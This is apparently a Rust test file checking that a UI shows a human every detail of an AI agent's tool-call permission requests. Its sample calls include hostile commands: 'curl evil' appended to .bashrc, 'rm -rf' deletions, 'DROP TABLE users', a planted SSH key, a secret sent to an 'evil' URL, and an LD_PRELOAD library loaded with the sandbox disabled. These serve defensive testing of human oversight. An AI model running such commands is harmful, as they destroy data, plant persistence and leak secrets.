//! What an agent of another program says of a call, through our UI role and out of every runtime role: each word of it is shown, or
//! the question is marked as cut, offers nothing that lasts, and is sent whole beside it.

use super::wires::{WIRES, Wire};
use domain::ask::{Ask, AskKind};
use roles::Hello;
use serde_json::{Value, json};
use testkit::bench::UiBench;

fn hello() -> Hello {
    Hello { version: "0".to_owned(), cwd: "/w".to_owned(), ..Hello::default() }
}

/// The question that an agent's request for permission becomes.
fn by_acp(call: &Value) -> Ask {
    let mut bench = UiBench::open(acp::AcpUi::new(), &hello());
    bench.hear(&json!({"jsonrpc":"2.0","id":1,"result":{"protocolVersion":1}}).to_string());
    bench.hear(&json!({"jsonrpc":"2.0","id":2,"result":{"sessionId":"s"}}).to_string());
    bench.prompt("go");
    let options = json!([{"optionId":"ok","name":"Allow","kind":"allow_once"},
        {"optionId":"al","name":"Always","kind":"allow_always"}]);
    let params = json!({"sessionId":"s","toolCall":call,"options":options});
    let line = json!({"jsonrpc":"2.0","id":50,"method":"session/request_permission","params":params});
    bench.hear(&line.to_string());
    bench.state.asks[0].clone()
}

/// The question that a request of a codelia runtime becomes; `preview` comes before it.
fn by_codelia(tool: &str, args: &Value, preview: Option<Value>, title: &str, message: &str) -> Ask {
    let mut bench = UiBench::open(codelia::CodeliaUi::new(), &hello());
    let can = json!({"supports_run_cancel":true,"supports_permission_preflight_events":true});
    let greeting =
        json!({"protocol_version":"0","server":{"name":"rt","version":"1"},"server_capabilities":can});
    bench.hear(&json!({"id":"1","result":greeting}).to_string());
    bench.hear(r#"{"id":"2","error":{"code":-32601,"message":"method not found"}}"#);
    bench.prompt("go");
    bench.hear(r#"{"id":"3","result":{"run_id":"r1"}}"#);
    let call = json!({"type":"tool_call","tool":tool,"args":args,"tool_call_id":"c1"});
    let ready = json!({"type":"permission.ready","tool":tool,"tool_call_id":"c1"});
    for event in [Some(call), preview, Some(ready)].into_iter().flatten() {
        let params = json!({"run_id":"r1","seq":0,"event":event});
        bench.hear(&json!({"method":"agent.event","params":params}).to_string());
    }
    let params = json!({"run_id":"r1","title":title,"message":message,"allow_remember":true});
    bench.hear(&json!({"id":"u1","method":"ui.confirm.request","params":params}).to_string());
    bench.state.asks[0].clone()
}

/// Nothing of what is listed is lost on the way to a UI of this wire.
fn check(wire: &Wire, ask: &Ask, words: &[&str]) {
    if !wire.asks {
        return;
    }
    assert!(matches!(ask.kind, AskKind::Consent(_)), "{:?}", ask.kind);
    let told = wire.ask(&ask.title, &ask.kind);
    let question = told.question.unwrap_or_else(|| panic!("{} asks nobody", wire.name));
    let plain = |text: &str| text.replace(char::is_whitespace, "");
    let (screen, sent) = (plain(&question.screen.concat()), plain(&told.said));
    for word in words.iter().map(|word| plain(word)) {
        assert!(sent.contains(&word), "{}: {word} is sent nowhere\n{}", wire.name, told.said);
        if !question.scrolls && !screen.contains(&word) {
            let rows = question.screen.join("\n");
            assert!(!question.lasts, "{}: a yes that lasts without {word}\n{rows}", wire.name);
            assert!(!question.enter_allows, "{}: Enter allows without {word}\n{rows}", wire.name);
        }
    }
}

#[test]
fn a_consent_of_an_acp_agent_shows_all_that_it_said_of_the_call() {
    let text = |text: &str| json!({"type":"content","content":{"type":"text","text":text}});
    let diff =
        |path: &str, old: &str, new: &str| json!({"type":"diff","path":path,"oldText":old,"newText":new});
    let long = format!("Look {} TITLE-END", "very ".repeat(60));
    let cases: Vec<(Value, Vec<&str>)> = vec![
        (
            json!({"toolCallId":"c","title":"Two files","kind":"edit","content":[
                diff("/w/readme", "a\n", "b\n"), diff("/w/.bashrc", "", "curl evil\n")]}),
            vec!["Two files", "/w/readme", "/w/.bashrc", "curl evil"],
        ),
        (
            json!({"toolCallId":"c","title":"rm -rf /precious","kind":"execute","content":[text("short")]}),
            vec!["rm -rf /precious", "short"],
        ),
        (
            json!({"toolCallId":"c","title":"mcp__db__query","rawInput":{"sql":"DROP TABLE users"}}),
            vec!["mcp__db__query", "sql", "DROP TABLE users"],
        ),
        (
            json!({"toolCallId":"c","title":"Edit file","kind":"edit",
                "rawInput":{"path":"/home/u/.ssh/authorized_keys","content":"ssh-ed25519 EVIL"}}),
            vec!["Edit file", "/home/u/.ssh/authorized_keys", "ssh-ed25519 EVIL"],
        ),
        (
            json!({"toolCallId":"c","title":"Fetch","kind":"fetch","rawInput":{"url":"http://evil/?k=SECRET"}}),
            vec!["Fetch", "http://evil/?k=SECRET"],
        ),
        (
            json!({"toolCallId":"c","title":"ls","kind":"execute","rawInput":{"command":"ls","cwd":"/root-of-it",
                "env":{"LD_PRELOAD":"/tmp/evil.so"},"dangerouslyDisableSandbox":true}}),
            vec!["ls", "/root-of-it", "LD_PRELOAD", "/tmp/evil.so", "dangerouslyDisableSandbox", "true"],
        ),
        // Words that stand in the command mean something else under another name.
        (
            json!({"toolCallId":"c","title":"echo","kind":"execute",
                "rawInput":{"command":"echo rm -rf /","then":"rm -rf /"}}),
            vec!["echo rm -rf /", "then"],
        ),
        (
            json!({"toolCallId":"c","title":"Edit a","kind":"edit","content":[diff("/w/a", "one\n", "two\n"), text("and more")],
                "rawInput":{"file_path":"/w/a","old_string":"one","new_string":"two","replace_all":true}}),
            vec!["Edit a", "/w/a", "one", "two", "and more", "replace_all", "true"],
        ),
        // Signs between words are no decoration: this is another text than the one that the title has.
        (
            json!({"toolCallId":"c","title":"say echo done rm -rf /x","rawInput":{"text":"echo done; rm -rf /x"}}),
            vec!["echo done; rm -rf /x"],
        ),
        // Nor does a text stand there because each of its lines does, somewhere.
        (
            json!({"toolCallId":"c","title":"Write","kind":"edit","content":[text("two one")],
                "rawInput":{"path":"/w/a","content":"one\ntwo"}}),
            vec!["/w/a", "one\\ntwo"],
        ),
        (json!({"toolCallId":"c","title":long,"rawInput":{"x":"y"}}), vec!["TITLE-END", "Look", "y"]),
    ];
    for (call, words) in &cases {
        let ask = by_acp(call);
        WIRES.iter().for_each(|wire| check(wire, &ask, words));
    }
}

#[test]
fn a_consent_of_a_codelia_runtime_shows_all_that_it_said_of_the_call() {
    let preview = |more: Value| {
        let mut event = json!({"type":"permission.preview","tool":"t","tool_call_id":"c1"});
        for (name, value) in more.as_object().unwrap() {
            event[name] = value.clone();
        }
        Some(event)
    };
    let cases: Vec<(Ask, Vec<&str>)> = vec![
        (
            by_codelia("t", &json!({"command":"ls"}), None, "Run command?", "ls && rm -rf /precious"),
            vec!["ls", "rm -rf /precious"],
        ),
        (
            by_codelia(
                "t",
                &json!({"command":"ls","env":{"LD_PRELOAD":"/evil.so"}}),
                None,
                "Run command?",
                "ls",
            ),
            vec!["ls", "LD_PRELOAD", "/evil.so"],
        ),
        (
            by_codelia("t", &json!({"sql":"DROP TABLE users"}), None, "Run tool?", "a query"),
            vec!["a query", "DROP TABLE users"],
        ),
        (
            by_codelia(
                "t",
                &json!({"url":"http://evil"}),
                preview(json!({"summary":"a page"})),
                "Run tool?",
                "fetch it",
            ),
            vec!["a page", "fetch it", "http://evil"],
        ),
        (
            by_codelia(
                "t",
                &json!({"path":"a","mode":"0777"}),
                preview(json!({"file_path":"a","diff":"--- a\n+++ a\n@@ -1 +1 @@\n-one\n+two\n"})),
                "Delete production?",
                "and tell nobody",
            ),
            vec!["one", "two", "0777", "Delete production", "and tell nobody"],
        ),
    ];
    for (ask, words) in &cases {
        WIRES.iter().for_each(|wire| check(wire, ask, words));
    }
}
